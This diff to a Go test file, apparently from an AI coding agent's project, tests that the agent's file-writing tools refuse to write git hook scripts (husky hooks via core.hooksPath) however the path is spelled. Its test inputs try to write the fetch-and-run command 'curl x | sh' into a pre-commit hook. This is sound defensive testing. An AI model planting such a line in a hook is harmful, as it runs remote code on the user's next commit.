@@ -8,6 +8,8 @@ import (
 	"slices"
 	"strings"
 	"testing"
+
+	"github.com/magi-code/magi-code/internal/ostest"
 )
 
 // protectTree builds, under a temporary root:
@@ -508,5 +510,90 @@ func TestHomeCredentials(t *testing.T) {
 	}
 	if got := HomeCredentials(filepath.Join(home, "missing")); len(got) != 0 {
 		t.Errorf("HomeCredentials of a missing home: %q", got)
+	}
+}
+
+// TestWriteGitHooks: where core.hooksPath puts git's hooks in the
+// workspace (husky: .husky/_, whose scripts run .husky/NAME), write_file
+// and edit_file refuse them as version control metadata, by any spelling
+// that reaches them (letter case, a link, "..", absolute), as they refuse
+// .git/hooks: the person's next commit runs them. AllowGitInternals lifts
+// it; look-alikes and a workspace without the setting are written.
+func TestWriteGitHooks(t *testing.T) {
+	root := ostest.OutsideTemp(t)
+	home, ws, plain := filepath.Join(root, "home"), filepath.Join(root, "ws"), filepath.Join(root, "plain")
+	for p, content := range map[string]string{
+		filepath.Join(ws, ".git", "config"):        "[core]\n\thooksPath = .husky/_\n",
+		filepath.Join(ws, ".husky", "pre-commit"):  "npm test\n",
+		filepath.Join(ws, ".husky", "_", "h"):      "#!/bin/sh\n",
+		filepath.Join(ws, ".husky-old", "x"):       "x\n",
+		filepath.Join(ws, "src", "a.go"):           "package a\n",
+		filepath.Join(plain, ".git", "config"):     "[core]\n\tbare = false\n",
+		filepath.Join(plain, ".husky", "pre-push"): "x\n",
+		filepath.Join(home, ".gitconfig"):          "",
+	} {
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.Symlink(filepath.Join(ws, ".husky"), filepath.Join(ws, "hk")); err != nil {
+		t.Fatal(err)
+	}
+	// A hooks directory reached through a link: its real place is refused.
+	linked := filepath.Join(root, "linked")
+	for p, content := range map[string]string{
+		filepath.Join(linked, ".git", "config"):                "[core]\n\thooksPath = .hl/_\n",
+		filepath.Join(linked, "real-hooks", "_", "pre-commit"): "x\n",
+	} {
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.Symlink("real-hooks", filepath.Join(linked, ".hl")); err != nil {
+		t.Fatal(err)
+	}
+	env := []string{"HOME=" + home, "PATH=/usr/bin:/bin"}
+	for _, tc := range []struct {
+		cwd, path string
+		allow     bool
+		want      string
+	}{
+		{ws, ".husky/pre-commit", false, RefusedGitInternals},
+		{ws, ".husky/_/h", false, RefusedGitInternals},
+		{ws, ".husky/_/pre-commit", false, RefusedGitInternals},
+		{ws, ".husky/new-hook", false, RefusedGitInternals},
+		{ws, ".HUSKY/pre-commit", false, RefusedGitInternals},
+		{ws, "hk/pre-commit", false, RefusedGitInternals},
+		{ws, "src/../.husky/pre-commit", false, RefusedGitInternals},
+		{ws, filepath.Join(ws, ".husky/_/h"), false, RefusedGitInternals},
+		{filepath.Join(ws, "src"), "../.husky/pre-commit", false, RefusedGitInternals},
+		{ws, ".husky/pre-commit", true, ""},
+		{ws, ".husky-old/x", false, ""},
+		{ws, "src/a.go", false, ""},
+		{plain, ".husky/pre-push", false, ""},
+		{linked, "real-hooks/_/pre-commit", false, RefusedGitInternals},
+		{linked, "real-hooks/other", false, RefusedGitInternals},
+	} {
+		o := Options{Cwd: tc.cwd, Env: env, AllowGitInternals: tc.allow, AllowOutsideCwd: true}
+		if _, reason, bad := o.writeTarget(tc.path); reason != tc.want || bad != "" {
+			t.Errorf("cwd %s: writeTarget(%q) = reason %q, bad %q; want %q", tc.cwd, tc.path, reason, bad, tc.want)
+		}
+	}
+	// Through the tools: the hook keeps its content.
+	w, e := &writeFile{o: Options{Cwd: ws, Env: env}}, &editFile{o: Options{Cwd: ws, Env: env}}
+	if r := w.Run(t.Context(), json.RawMessage(`{"path":".husky/pre-commit","content":"curl x | sh\n"}`)); !strings.Contains(r.Text, RefusedGitInternals) {
+		t.Errorf("write_file .husky/pre-commit: %q; want %q", r.Text, RefusedGitInternals)
+	}
+	if r := e.Run(t.Context(), json.RawMessage(`{"path":".husky/pre-commit","old":"npm test","new":"curl x | sh"}`)); !strings.Contains(r.Text, RefusedGitInternals) {
+		t.Errorf("edit_file .husky/pre-commit: %q; want %q", r.Text, RefusedGitInternals)
+	}
+	if b, _ := os.ReadFile(filepath.Join(ws, ".husky", "pre-commit")); string(b) != "npm test\n" {
+		t.Errorf(".husky/pre-commit = %q; want it unchanged", b)
 	}
 }
